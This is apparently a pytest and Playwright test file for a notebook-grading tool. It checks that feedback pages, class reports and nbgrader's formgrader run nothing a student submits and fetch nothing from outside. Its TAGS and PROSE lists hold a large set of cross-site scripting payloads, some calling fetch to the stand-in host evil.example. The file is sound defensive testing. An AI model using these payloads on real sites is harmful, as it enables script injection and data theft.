"""What a student handed in, opened in a real browser as the feedback page and in nbgrader's formgrader.

No script of the student's runs, nothing is fetched from anywhere else, and a person can grade by hand beside it.
"""

import json
import os
import shutil
import socket
import subprocess
import sys
import time
import urllib.request
from pathlib import Path

import nbformat
import pytest

from grading import class_report, feedback, record, summary
from grading.cleaning import to_show
from grading.gradebook import opened

NAME, QUESTION = "07_convolution_matrix", "question-what-the-matrix-shows"
MATHJAX = "https://cdnjs.cloudflare.com/ajax/libs/mathjax/"  # nbgrader's own template asks for it in the formgrader
POINTS = {"sampling_matrix": 3, "conv_matrix1d": 5, "conv_matrix2d": 5, "conv_matrix_channels": 4, "count_nonzeros": 3}
pytestmark = pytest.mark.usefixtures("chromium")

BAD = "parent.top.caught='x';fetch('https://evil.example/s')"
TAGS = [
    f"<script>{BAD}</script>",
    "<script src=https://evil.example/a.js></script>",
    f'<img src=x onerror="{BAD}">',
    "<img src='https://evil.example/pixel.png'><img srcset='https://evil.example/2.png 2x'>",
    f"<svg onload=\"{BAD}\"><script>{BAD}</script><image href='https://evil.example/i.svg'/></svg>",
    f"<iframe srcdoc=\"<script>{BAD}</script>\"></iframe><iframe src='https://evil.example/f'></iframe>",
    f'<iframe src="javascript:{BAD}"></iframe>',
    "<object data='https://evil.example/o'></object><embed src='//evil.example/e'>",
    "<style>@import url('https://evil.example/c.css'); body { display: none }</style>",
    "<link rel=stylesheet href='https://evil.example/l.css'><link rel=preconnect href='https://evil.example'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/m'><base href='https://evil.example/'>",
    "<div style=\"background:url('https://evil.example/b.png');position:fixed;inset:0;z-index:9999\">over</div>",
    f'<a href="javascript:{BAD}" id=run>click</a>',
    "<form action='https://evil.example/f'><button id=run2>go</button></form>",
    f'<math><mtext><table><mglyph><style><img src=x onerror="{BAD}"></style></mglyph></table></mtext></math>',
    f"<math><maction actiontype='statusline' xlink:href=\"javascript:{BAD}\">x</maction></math>",
    f'<details open ontoggle="{BAD}"><video autoplay onplay="{BAD}" poster=\'https://evil.example/v.png\'></video>',
    f'<noscript><p title="</noscript><img src=x onerror={BAD.replace(" ", "")}>"></noscript>',
    f'<!--><img src=x onerror="{BAD}">-->',
    f"</pre></div></textarea></title><script>{BAD}</script>",
    "<input autofocus onfocus=\"parent.top.caught='x'\"><div id=csrf name=base_url></div>",
]
PROSE = [
    *TAGS,
    f"[a](javascript:{BAD}) [b]( data:text/html,<script>{BAD}</script>) [c]: javascript:x\n\n[c]",
    f"![p](https://evil.example/p.png) ![q][r]\n\n[r]: https://evil.example/r.png\n\n<javascript:{BAD}>",
    f'# {QUESTION}\n\n{QUESTION}-comment\n===\n\n## <img src=x onerror="{BAD}">',
    f"$\\href{{javascript:{BAD}}}{{x}}$ \\(\\href{{javascript:x}}{{y}}\\) ",
    "$$\\unicode[fake]{x}\\require{html}\\style{x:y}{a}$$",
    f'$\\text{{<script>{BAD}</script>}}$ $x$<img/src/onerror="{BAD}"> $\\color{{red" onclick="{BAD}}}{{z}}$',
    f"```{{=html}}\n<script>{BAD}</script>\n```\n\n    <script>{BAD}</script>\n\n`</code><script>{BAD}</script>`",
    f"|a|\n|-|\n|<script>{BAD}</script>|\n\n\\begin{{equation}}\\href{{javascript:x}}{{y}}\\end{{equation}}",
]


def outputs():
    """All kinds of outputs that may come out of a sandbox, in all ways in which a front end may show them."""
    html = "\n".join(TAGS)
    kinds = ("text/html", "text/markdown", "text/latex", "image/svg+xml", "application/javascript", "text/plain")
    shown = [{"output_type": "display_data", "data": {kind: html}, "metadata": {}} for kind in kinds]
    isolated = {
        "text/html": {"isolated": True},
        "image/png": {"width": '1" onload="x'},
        "filenames": {"image/png": "//x"},
    }
    picture = f'iVBORw0KGgo="><script>{BAD}</script>'
    widget = {"application/vnd.jupyter.widget-view+json": {"model_id": "a"}, "text/html": html}
    return [
        *shown,
        {"output_type": "execute_result", "data": {"text/html": html, "image/png": picture}, "metadata": isolated},
        {"output_type": "display_data", "data": widget, "metadata": {}},
        {"output_type": "stream", "name": "stdout", "text": f"{html}\x1b[31m\x1b]8;;javascript:{BAD}\x07"},
        {"output_type": "error", "ename": html, "evalue": html, "traceback": [html, f"\x1b[{html}m"]},
    ]


def hostile(course):
    """The verdict on somebody who tries all of it wherever something of a submission is shown."""
    release = nbformat.reads(course.release_text(NAME).decode(), as_version=4)
    own = [bool(c.metadata.get("nbgrader", {}).get("solution")) for c in release.cells]
    rows = [{"index": n, "kind": c.cell_type, "source": c.source, "own": own[n]} for n, c in enumerate(release.cells)]
    for row, cell in zip(rows, release.cells, strict=True):
        if row["own"]:
            row["source"] = "\n\n".join(PROSE if cell.cell_type == "markdown" else TAGS)
    added = [{"index": None, "kind": kind, "source": "\n\n".join(PROSE), "own": True} for kind in ("markdown", "code")]
    cells = [{"cell": n, "outputs": json.dumps(outputs()), "left_out": None} for n in range(len(rows) + 2)]
    result = {"points": 1, "score": 0, "mistakes": TAGS, "text": "\n".join(TAGS), "html": "\n".join(TAGS)}
    tasks = [result | {"task": name, "points": points, "properties": []} for name, points in POINTS.items()]
    flags = [*PROSE, "a $x$ `b`"]
    return {"tasks": tasks, "flags": flags, "exceeded": TAGS} | to_show([*added, *rows], cells)


@pytest.fixture(scope="module")
def place(course, tmp_path_factory):
    from grading.course import Course, configure

    folder = tmp_path_factory.mktemp("browser") / "course"
    shutil.copytree(course.root, folder)
    place = Course(folder)
    configure(place, {"CourseDirectory.root": str(folder)})
    handed_in = folder / "submitted" / "eve" / NAME / f"{NAME}.ipynb"
    handed_in.parent.mkdir(parents=True)
    handed_in.write_text("{}")
    record.record(place, NAME, "eve", hostile(place))
    return place


@pytest.fixture
def page(browser):
    """A page that may ask nobody but this machine; `asked` and `ran` tell what was tried."""
    context = browser.new_context()
    page = context.new_page()
    page.asked, page.ran = [], []
    page.on("dialog", lambda dialog: (page.ran.append(dialog.message), dialog.dismiss()))

    def answer(route):
        if route.request.url.startswith(("http://127.0.0.1:", "file:", "data:")):
            return route.continue_()
        page.asked.append(route.request.url)
        return route.abort()

    context.route("**/*", answer)
    yield page
    context.close()


def active(page):
    """What in the page is there to act, as text; and what happens when all of it is clicked."""
    page.wait_for_timeout(300)
    page.evaluate("document.querySelectorAll('#run, #run2, a[href^=javascript]').forEach(e => e.click())")
    page.wait_for_timeout(100)
    return page.evaluate("""() => {
        const loads = /^(iframe|object|embed|form|base|svg|video|maction|link)$/i
        const evil = a => /javascript:/.test(a.value) || (a.name != 'href' && /evil/.test(a.value))
        const acts = a => /^on/.test(a.name) || evil(a)
        const bad = e => [...e.attributes].some(acts) || (loads.test(e.localName) && /evil/.test(e.outerHTML))
        const all = [...(document.querySelector('#notebook') || document).querySelectorAll('*')]
        return [...(window.caught ? ['a script ran'] : []), ...all.filter(bad).map(e => e.outerHTML.slice(0, 200))]}""")


def test_feedback_is_inert(place, page):
    (path,) = feedback.make_feedback(place, NAME, ["eve"])
    page.goto(path.as_uri())
    assert page.locator("script, iframe, object, embed, form, video, link").count() == 0
    assert active(page) == []
    assert "evil.example" in page.inner_text("body"), "what was tried is there to be read"
    assert (page.asked, page.ran) == ([], [])


def test_the_class_report_is_inert(place, page):
    verdict = hostile(place) | {"seconds": 1.0, "sandbox": "x"}
    job = type("Job", (), {"student": "eve", "assignment": NAME})
    summary.keep(place, summary.row_of(job, verdict), verdict)
    page.goto(class_report.write_page(place, class_report.gather(place, NAME)).as_uri())
    assert page.locator("script, iframe, object, embed, form, video, link, img").count() == 0
    assert active(page) == []
    assert (page.asked, page.ran) == ([], [])


@pytest.fixture(scope="module")
def formgrader(place, tmp_path_factory):
    """nbgrader's formgrader for the course, in a Jupyter server of its own; gives an address for a student."""
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    home = tmp_path_factory.mktemp("home")
    places = {name: str(home) for name in ("HOME", "JUPYTER_CONFIG_DIR", "JUPYTER_DATA_DIR", "JUPYTER_RUNTIME_DIR")}
    arguments = [f"--ServerApp.port={port}", "--ServerApp.port_retries=0", "--IdentityProvider.token=", "--no-browser"]
    extension = "--ServerApp.jpserver_extensions={'nbgrader.server_extensions.formgrader': True}"
    command = [sys.executable, "-m", "jupyter_server", "--ip=127.0.0.1", "--allow-root", *arguments, extension]
    log = (home / "log").open("wb")
    environment = os.environ | places | {"PATH": f"{Path(sys.executable).parent}:{os.environ['PATH']}"}
    server = subprocess.Popen(command, cwd=place.root, env=environment, stdout=log, stderr=log)
    try:
        _wait(f"http://127.0.0.1:{port}/api", server, home / "log")
        with opened(place) as gradebook:
            key = gradebook.find_submission_notebook(NAME, NAME, "eve").id
        yield f"http://127.0.0.1:{port}/formgrader/submissions/{key}/"
    finally:
        server.terminate()
        server.wait(20)


def _wait(address, server, log):
    for _ in range(200):
        try:
            return urllib.request.urlopen(address, timeout=5).close()
        except OSError:
            assert server.poll() is None, log.read_text()
            time.sleep(0.1)
    raise AssertionError(log.read_text())


def test_formgrader_runs_nothing_of_the_students(page, formgrader):
    page.goto(formgrader)
    page.wait_for_selector(f"input#{QUESTION}")
    assert active(page) == []
    assert page.ran == []
    assert [url for url in page.asked if not url.startswith(MATHJAX)] == []


def test_mathjax_would_find_no_command_of_the_students(page, formgrader):
    """It is not loaded here: no text that it reads holds what a student wrote."""
    page.goto(formgrader)
    read = page.evaluate("""() => {
        const skipped = 'script, noscript, style, textarea, pre, code, .tex2jax_ignore', found = []
        const texts = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT)
        for (let t; (t = texts.nextNode()); )
            if (!t.parentElement.closest(skipped)) found.push(t.data)
        return found.join('')}""")
    assert "The matrix of a kernel" in read
    assert "href{" not in read
    assert "evil" not in read


def test_a_person_grades_by_hand_beside_it_and_a_regrade_keeps_that(page, place, formgrader):
    page.goto(formgrader)
    field, comment = page.locator(f"input[id='{QUESTION}']"), page.locator(f"textarea[id='{QUESTION}-comment']")
    assert page.locator(f"[id='{QUESTION}']").count() == 1, "no heading of the student's takes its name"
    with page.expect_response(lambda answer: "/api/grade/" in answer.url and answer.request.method == "PUT"):
        field.fill("4")
        field.blur()
    with page.expect_response(lambda answer: "/api/comment/" in answer.url and answer.request.method == "PUT"):
        comment.fill("Well said.")
        comment.blur()
    record.record(place, NAME, "eve", hostile(place))
    with opened(place) as gradebook:
        grade = gradebook.find_grade(QUESTION, NAME, NAME, "eve")
        assert (grade.manual_score, grade.needs_manual_grade) == (4, False)
        assert gradebook.find_comment(QUESTION, NAME, NAME, "eve").comment == "Well said."
    page.reload()
    page.wait_for_function(f"$('#{QUESTION}').val() == '4' && $('#{QUESTION}-comment').val() == 'Well said.'")
